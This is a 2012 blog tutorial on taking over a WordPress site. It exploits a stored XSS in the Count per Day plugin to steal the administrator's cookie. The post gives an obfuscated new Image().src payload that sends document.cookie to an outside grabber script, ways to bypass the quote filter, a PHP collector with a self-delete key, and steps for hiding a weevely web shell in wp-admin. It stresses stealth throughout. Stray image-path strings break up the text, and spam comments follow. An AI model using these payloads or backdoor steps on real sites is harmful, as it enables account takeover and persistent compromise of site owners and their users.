Friday, November 2, 2012

Wordpress Cookie Grabber

In a previous video Wordpress XSS + Internet Explorer 8 Exploit i showed you how you can use a Cross-site scripting vulnerability to redirect a victim with Internet Explorer to a malicious site containing an exploit for version 8. Another way, is to use it as cookie grabber.

From wikipedia:
A cookie, also known as an HTTP cookie, web cookie, or browser cookie, is usually a small piece of data sent from a website and stored in a user's web browser while a user is browsing a website. When the userbrowses the same website in the future, the data stored in the cookie can be retrieved by the website to notify the website of the user's previous activity.
Basically, when a user visit the "infected" page all cookies of that domain will be sent to a script which will store informations in a file/db or sent via email to the attacker.

After selecting our wordpress target ( we use a vulnerability scanner called wpscan developed by ethicalhack3r that is able to gather useful information such as:
  • wordpress version
  • wordpress vulnerabilities (link to exploit-db)
  • all installed plugins
  • plugins vulnerabilities (link to exploit-db)

As we can see, there is a plugin installed called Count per Day which seems to be vulnerable. Results on exploit-db lead to two vulnerabilities for two different versions, therefore first we have to check which version is installed. As many plugins do, inside their folder there is a file with current version, changelog etc.. This plugin isn't different so since its folder is publicly accessible, you can see all files.

After opening readme.txt and see that the current version is 3.2.3 we can focus on the previous exploit found in exploit-db. This version is vulnerable to a stored XSS.

How this vulnerability works. As you can see from the picture below there is a file notes.php which allow everyone to add some notes.

This note can be plain text or html.

This code is viewed in count-per day dashboard and the developer didn't validate theinput, but the main problem of this page is that shouldn't be accessible to everyone.

This is a perfect scenario where we can use a cookie grabber, because the code is exeuted only in administrator panel.

How can we get admin cookie ?

We need two things:
  1. Javascript code that get cookie through document.cookie and send it
  2. A script (php, python, ruby ..) on another server that receive the information and stores it (file, mysql, send email...).
A lot of online examples use a redirection method to get the cookie, like this one:
document.location = "" + document.cookie
In this case, this is not acceptable because we want to do it in a stealthiest way. What we have to do is a GET request to a script, so how we can do it in javascript without redirection ?
A clever way is to use the Image object and its src property. Once done the code will look like this:

If we add this code as note, nothing will happen because Count per Day perform a quotes escape.

Since only quotes are escaped we can bypass this filter in two ways:
  1. Convert url in unicode characters
  2. Use alphanumeric javascript
Let's try both ways. In the first way we need an ASCII to Unicode convert, i found this site string-fromcharcode-encoder. After conversion our code will look like this:

new Image().src = String.fromCharCode(104,116,116,112,58,47,47,49,57,50,46,49,54,56,46,50,46,51,47,102,111,108,100,101,114,47,103,114,97,98,98,101,114,46,112,104,112,63,99,61) + document.cookie;

Now the code will be executed, because there aren't quotes. A negative thing about this is if the administrator check the source code of the page, he will see the string document.cookie and maybe he will suspect something.

In the second way wetransform javascript code into an equivalent sequence of () [] {} ! + characters. A guy named Patricio Palladino made it possible creating a tool availabe here. Now our cookie grabber will look like this:
-- snip --
Following this way, we obfuscate all the code, but the length is a disadvantage  for a stealthier code. As last thing we need to use javascript escape function, otherwise some cookie characters will be altered, for example instead of % we get |.
new Image().src="" + escape(document.cookie);

Till now we have explained how to get the cookie, now let's start talk about how to store our information. This task is very simple because with few lines of php we can store all incoming cookies in a text file.

Script code:

$file_name      = "cookie.txt";
        $suicide_key    = "password";

        if( isset($_GET['c']) )
                $content = $_GET['c'];
                $content = str_replace(" ", "", $content);$lines = explode(";",$content);

                $handle = fopen($file_name,'a');

                fwrite($handle, "----- START\n\n");

                foreach( $lines as $line )

                fwrite($handle,"\n----- END\n");

        else if( isset($_GET['s']) )
                if( strcmp( trim($_GET['s']), $suicide_key ) == 0)
This code is simple and doesn't need explanations, the only thing is that i also provided a suicide mode in case the attacker wants to delete both files.Once we got the administrator cookie we use CookiesManager+ a plugin for Firefox that is able to add/remove cookies.

After adding our cookie reload the page and voilà; administrator privileges acquired. Since cookie can change or Count per Day can be removed or updated we need to find a way to create a backdoor (stay persistent). It's here that weevely comes in handy:
Weevely is a stealth PHP web shell that simulate telnet-like connection. It is an essential tool for web application post exploitation, and can be used as stealth backdoor or as a web shell to manage legit web accounts, even free hosted ones.
Hopefully has installed a plugin to manage files, so as administrators we can upload weevely and connect to it.

To be more stealthier we upload again weevely, but this time in another folder (wp-admin) and with a name that it looks like a legit wordpress file.

That's all for now. Enjoy the video.

- Sample penetration test report
Javascript alphanumeric obfuscator


  1. Sorry just wanted to know does the admin have to clik on the javascript image link in his dashboard or does this work without him clicking??

    1. no, when the admin visit the page, the javascript code will be executed without clicking anything.

  2. BlueHost is ultimately one of the best hosting company with plans for any hosting requirements.

  3. I am going to start an Technical Support Website. Isit better to use Magento Security and how to get rid of insecure spams. Please suggest me how to install this on my website?

  4. Very good points you wrote here..Great stuff...I think you've made some truly interesting points.Keep up the good work. website hosting south africa

  5. Great content material and great layout. Your website deserves all of the positive feedbackit’s been getting.WordPress hosting comparison